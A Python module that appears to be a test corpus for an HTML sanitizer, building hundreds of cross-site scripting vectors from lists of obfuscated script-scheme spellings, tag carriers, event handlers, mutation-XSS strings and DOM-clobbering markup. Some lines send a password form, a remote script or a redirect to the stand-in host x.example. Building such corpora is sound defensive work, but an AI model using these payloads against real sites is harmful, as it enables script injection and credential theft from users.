"""Bodies that try to run something: our own table, by the way that each of them takes."""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"

# One scheme in every spelling that some parser takes for it.
SPELLINGS = [
    "javascript:", "JAVASCRIPT:", "jAvAsCrIpT:", " javascript:", "\tjavascript:", "\njavascript:", "\x01javascript:",
    "\x1fjavascript:", "\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:", "java\tscript:", "java\nscript:",
    "java\rscript:", "java\x00script:", "java\x01script:", "javascript\t:", "javascript :", "javascript\x00:",
    "&#106;avascript:", "&#x6a;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "&#x000006a;avascript:",
    "java&#9;script:", "java&#x09;script:", "java&Tab;script:", "java&NewLine;script:", "java&#10;script:",
    "java&#13;script:", "java&#0;script:", "&#1;javascript:", "&#x1f;javascript:", "javascript&colon;",
    "javascript&#58;", "javascript&#x3a;", "javascript&#x003A;", "&nbsp;javascript:", "java&shy;script:",
    "java&zwnj;script:", "&#8;javascript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:",
    "vbscript:", "VBScript:", "livescript:", "mocha:", "data:text/html,", "data:text/html;base64,PHNjcmlwdD4=,",
    "data:image/svg+xml,<svg onload=", "DATA:text/html;charset=utf-7,", "blob:https://x.example/", "filesystem:x",
    "file:///etc/passwd?", "about:blank#", "ws://x.example/", "intent://x#", "ms-word:x", "x-apple:", "chrome://",
    "javascript://x.example/%0a", "javascript:/*--></title></style></textarea></script>*/", "javascript:void(0);//",
    "//javascript:", "/javascript:", "https:javascript:", "http://[javascript:", "j&#97vascript:", "&#x6Aavascript:",
    "&amp;#106;avascript:", "%6aavascript:", "java%0ascript:", "\\javascript:", "javascript\\:", "ｊavascript:",
    "javaſcript:", "javascrıpt:",
]  # fmt: skip
CARRIERS = [
    "<a href='{}'>x</a>", '<a href="{}">x</a>', "<a href=`{}`>x</a>", "<img src='{}'>", "<img srcset='{} 1x, x.png 2x'>",
    "<img srcset='x.png 1x,{}'>", "<video poster='{}' src=/v.mp4></video>", "<audio src='{}'></audio>",
    "<video><source src='{}'></video>", "<picture><source srcset='{}'><img src=x></picture>",
    "<blockquote cite='{}'>x</blockquote>", "<q cite='{}'>x</q>", "<del cite='{}'>x</del>", "<form action='{}'><input type=submit></form>",
    "<button formaction='{}'>x</button>", "<iframe src='{}'></iframe>", "<object data='{}'></object>", "<embed src='{}'>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<svg><image href='{}'/></svg>", "<svg><use href='{}'/></svg>",
    "<math href='{}'><mi>x</mi></math>", "<math><maction actiontype=statusline xlink:href='{}'>x</maction></math>",
    "<area href='{}'>", "<map name=m><area href='{}'></map>", "<base href='{}'><a href=x>x</a>", "<link rel=stylesheet href='{}'>",
    "<link rel=import href='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<input type=image src='{}'>",
    "<body background='{}'>", "<table background='{}'><td background='{}'>x", "<div style=\"background:url({})\">x</div>",
    "<style>@import '{}';</style>", "<frameset><frame src='{}'></frameset>", "<applet code='{}'></applet>", "<bgsound src='{}'>",
    "<isindex action='{}'>", "<track src='{}'>", "<a href=x ping='{}'>x</a>", "<img longdesc='{}' src=x>", "<img lowsrc='{}'>",
    "<img dynsrc='{}'>", "<portal src='{}'></portal>", "<script src='{}'></script>", "<html manifest='{}'>", "<video src='{}' autoplay>",
    "<xml src='{}'>", "<svg><script href='{}'/></svg>", "<svg><animate attributeName=href values='{}'></svg>",
    "<svg><set attributeName=href to='{}'></svg>", "<marquee loop=1 width=0 src='{}'>x</marquee>", "<ins cite='{}'>x</ins>",
]  # fmt: skip

HANDLERS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover ontoggle onbeforetoggle onanimationstart "
    "onanimationend ontransitionend onwheel onscroll onscrollend onresize onhashchange onpageshow onmessage onbegin onend "
    "onrepeat oncanplay onloadstart onloadedmetadata onplay onended ontimeupdate onstart onfinish onbounce oncut oncopy "
    "onpaste onsearch oninput onchange oninvalid onselect onsubmit onreset onkeydown ondrag ondrop onauxclick "
    "oncontextmenu onformdata onslotchange onsecuritypolicyviolation onbeforematch oncontentvisibilityautostatechange "
    "ONERROR OnError on%45rror x:onload onload\x0c onload\x00 data-onload -onload onunhandledrejection"
).split(" ")
HANDLED = [
    "<img src=x {}={}>", "<svg {}={}>", "<body {}={}>", "<video src=x {}={} controls></video>", "<details open {}={}><summary>x</summary>y</details>",
    "<input autofocus {}={}>", "<a href=x tabindex=1 {}={}>x</a>", "<div contenteditable {}='{}'>x</div>", "<p/{}={}>x",
    "<marquee {}={}>x</marquee>", "<img src='x'{}={}>", "<img/src=x\n{}\n=\n\"{}\">", "<style>@keyframes a{{}}</style><b style='animation:a' {}={}>x</b>",
    "<x {}={} tabindex=1 id=x>x</x>", "<math><mi {}={}>x</mi></math>", "<svg><animate attributeName=x dur=1s {}={}></svg>", "<audio src=x {}={}>",
    "<iframe srcdoc=x {}={}></iframe>", "<object data=x {}={}></object>", "<select autofocus {}={}><option>x</select>", "<b title='{}={}'>x",
]  # fmt: skip

SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/src=//x.example/x.js></script>", "<script\x0csrc=x>alert(1)</script>",
    "<script\x00>alert(1)</script>", "<script>alert(1)", "<script src=x", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<script><!--\nalert(1)//--></script>", "<script><!--<script></script>--></script><img src=x onerror=alert(1)>", "<script type=module>alert(1)</script>",
    "<script type=text/plain>alert(1)</script><script>eval(document.scripts[0].text)</script>", "<script nomodule>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script>alert&lpar;1)</script></svg>", "<svg><script/href=//x.example/></svg>", "<math><script>alert(1)</script></math>",
    "</script><script>alert(1)</script>", "<noscript><script>alert(1)</script></noscript>", "<template><script>alert(1)</script></template>",
    "<script charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\ufeff<script>alert(1)</script>",
    "¼script¾alert(1)¼/script¾", "＜script＞alert(1)＜/script＞", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "\\x3cscript\\x3ealert(1)",
    "%3Cscript%3Ealert(1)", "<%00script>alert(1)", "<?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<script a='</script>'>alert(1)</script>",
]  # fmt: skip

MUTATIONS = [
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror=alert(1)>'>",
    '<svg><desc><style><a title="</style><img src=x onerror=alert(1)>">', '<svg><title><style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg><foreignObject><style><a title="</style><img src=x onerror=alert(1)>">', "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>",
    '<math><annotation-xml encoding="application/xhtml+xml"><style><a title="</style><img src=x onerror=alert(1)>">', "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><template><style><!--</select><a rel='--></style></template></select><img src=x onerror=alert(1)>'>", "<table><td><svg><style><a title='</style><img src=x onerror=alert(1)>'>",
    '<a title="`<img src=x onerror=alert(1)>`">x</a>', "<img alt=\"``onerror=alert(1) src=x\">", "<p style=\"font-family:'\\22\\3bx:expression(alert(1))/*'\">x", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp>&lt;/xmp>&lt;img src=x onerror=alert(1)></xmp>", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', "<noembed></noembed><img src=x onerror=alert(1)></noembed>",
    "<iframe></iframe><img src=x onerror=alert(1)></iframe>", "<textarea></textarea><img src=x onerror=alert(1)></textarea>", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>", "<!-- --\n!><img src=x onerror=alert(1)> -->",
    "<!-- -- ><img src=x onerror=alert(1)> -->", "<!><img src=x onerror=alert(1)>", "<!-x><img src=x onerror=alert(1)>", "<?><img src=x onerror=alert(1)>", "</><img src=x onerror=alert(1)>", "</ x><img src=x onerror=alert(1)>",
    "<![if x]><img src=x onerror=alert(1)><![endif]>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<comment><img src='</comment><img src=x onerror=alert(1)//'>",
    "<a\x0bonclick=alert(1)>x", "<img\x0bsrc=x\x0bonerror=alert(1)>", "<img src=x\u2028onerror=alert(1)>", "<img src='x\x00' onerror=alert(1)>", "<im\x00g src=x onerror=alert(1)>", "<img src=x onerror\x00=alert(1)>",
    "<p title='</p><script>alert(1)</script>'>x", "<p title=\"'><script>alert(1)</script>\">x", "<p title='&quot;><script>alert(1)</script>'>x", "<p a='x'b='y'onclick=alert(1)>x", "<p =onclick=alert(1)>x",
    "<p \"'\"onclick=alert(1)>x", "<p/a/onclick=alert(1)/b>x", "<a <b onclick=alert(1)>x", "<a<b onclick=alert(1)>x", "<a href=x<b onclick=alert(1)>x", "<a\nhref\n=\n'x'\nonclick\n=\nalert(1)\n>x",
    "<table><script>alert(1)</script><tr><td>x", "<table><img src=x onerror=alert(1)>", "<table><a><td><a>x</table>", "<p><table><p>", "<b><p><a></b><a>", "<a><table><a>", "<nobr><b><nobr><p></nobr></b>",
    "<button><p><button>", "<h1><h2></h1>", "<li><ul></li><li>", "<ruby><rtc><rt><rb><rp>", "<dd><p><dt></dd>", "<frameset><frame src=x onload=alert(1)>", "<caption><table><caption><td>", "<colgroup><img src=x>",
    "<pre>\n\n<textarea>\n\n</textarea>", "<svg><svg><svg></svg><p>x", "<math><p><svg><p>x", "<svg><br><img src=x onerror=alert(1)>", "<svg><font color=x><img src=x onerror=alert(1)>", "<svg><font><style><img src=x onerror=alert(1)>",
    "<math><malignmark><style><img src=x onerror=alert(1)>", "<math><mi><malignmark><mglyph><style><img src=x onerror=alert(1)>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>", "<math><![CDATA[<]]>img src=x onerror=alert(1)>",
    "<template><style></template><img src=x onerror=alert(1)></style>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<div><template shadowroot=open><script>alert(1)</script></template></div>",
    "<a is=x-a href=x>x</a>", "<x-a onclick=alert(1)>x</x-a>", "<slot name=x onslotchange=alert(1)>", "<dialog open onclose=alert(1)><form method=dialog><button>", "<popover popover onbeforetoggle=alert(1)>",
    "<img name=cookie src=x><form name=body><input name=innerHTML></form>", "<a id=x><a id=x name=y href='clobbered:x'>", "<form id=a><input name=attributes><input name=parentNode></form>",
]  # fmt: skip

OTHERS = [
    "<base href=//x.example/><a href=y>x</a>", "<base target=_top><a href=y>x</a>", "<meta http-equiv=refresh content='0;url=//x.example/'>", "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">", "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>", "<link rel=stylesheet href=//x.example/x.css>", "<link rel=prefetch href=//x.example/>",
    "<link rel=dns-prefetch href=//x.example/>", "<link rel=preconnect href=//x.example/>", "<link rel=manifest href=//x.example/>", "<style>body{background:url(//x.example/)}</style>", "<style>@font-face{src:url(//x.example/)}</style>",
    "<style>*{position:fixed}</style>", "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x", "<p style='background:url(//x.example/)'>x", "<p style='behavior:url(x.htc)'>x", "<p style='-moz-binding:url(x.xml#y)'>x",
    "<p style='width:expression(alert(1))'>x", "<p class='gated' id='body'>x", "<form action=//x.example/><input name=password type=password><input type=submit></form>", "<form id=f></form><button form=f formaction=//x.example/>x</button>",
    "<input type=hidden name=csrf>", "<isindex prompt='Password'>", "<keygen name=x>", "<iframe src=//x.example/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=//x.example/ type=text/html></object>",
    "<object><param name=src value=//x.example/></object>", "<embed src=//x.example/x.swf allowscriptaccess=always>", "<applet archive=//x.example/x.jar code=x>", "<fencedframe src=//x.example/></fencedframe>", "<portal src=//x.example/></portal>",
    "<img src=x srcset='//x.example/a 1x, javascript:alert(1) 2x'>", "<img srcset=',,,javascript:alert(1),,,'>", "<img srcset='data:image/svg+xml,<svg/onload=alert(1)> 1x'>", "<img srcset='x (javascript:alert(1)) 1x'>", "<img srcset='x 1x,\tjavascript:alert(1)'>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>", "<video><track default src=//x.example/x.vtt></video>", "<video autoplay muted src=//x.example/v.mp4 onplay=alert(1)></video>", "<audio autoplay src=//x.example/a.mp3></audio>",
    "<a href=//x.example/ target=_blank rel=opener>x</a>", "<a href=//x.example/ download ping=//x.example/>x</a>", "<a href=//x.example/ attributionsrc=//x.example/>x</a>", "<img src=//x.example/ attributionsrc crossorigin=use-credentials referrerpolicy=unsafe-url>",
    "<img src=//user:hunter2@x.example/>", "<a href='https://x.example\\@y.example/'>x</a>", "<a href='https://x.example&#x2f;@y.example/'>x</a>", "<a href='https://x\u3002example/'>x</a>", "<a href='//x.example:80:90/'>x</a>", "<bdo dir=rtl>x</bdo>\u202e x", "<p dir=rtl lang=x>x",
    "<span hidden>x</span>", "<span aria-hidden=true role=button tabindex=0 accesskey=x>x</span>", "<p contenteditable spellcheck autofocus draggable=true inert popover>x", "<p itemscope itemtype=//x.example/ itemid=x>x", "<p xmlns=x xml:base=//x.example/ xml:lang=x xlink:href=x>x",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "<svg><image xlink:href=//x.example/></svg>", "<svg><use href=//x.example/#x></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><filter><feImage href=//x.example/></filter></svg>", "<svg><style>@import '//x.example/'</style></svg>", "<svg><handler type=text/javascript>alert(1)</handler></svg>", "<svg><listener event=load handler=#x /></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><semantics><annotation-xml><svg onload=alert(1)></annotation-xml></semantics></math>", "&#0;&#1;&#8;&#11;&#12;&#14;&#31;&#127;&#128;&#159;&#xD800;&#xDFFF;&#xFFFE;&#xFFFF;&#x1FFFE;&#x10FFFF;&#x110000;&#99999999999;", "\x00\x01\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f\ufffe\uffff\U0001fffe\U0010ffff",
    "<p title='\x00\x01\x08\x0b\x0c\x0e\x1f\x7f&#0;&#1;&#x1f;'>x", "<p title=\"a\r\nb\tc\">x", "&lt&gt&amp&quot&#60&#x3c&#0060script&#62", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&notit; &notin; &ampx; &AMP &AMP; &Lt; &nvlt;", "]]>", "--> --!> <!-- <![CDATA[",
]  # fmt: skip

VECTORS = list(
    dict.fromkeys(
        [
            *SCRIPTS,
            *MUTATIONS,
            *OTHERS,
            *(carrier.replace("{}", f"{spelling}{_RUN}") for carrier, spelling in product(CARRIERS, SPELLINGS)),
            *(
                form.replace("{{}}", "").replace("{}", handler, 1).replace("{}", _RUN, 1)
                for form, handler in product(HANDLED, HANDLERS)
            ),
        ]
    )
)
SINGLE = [*SCRIPTS, *MUTATIONS, *OTHERS]
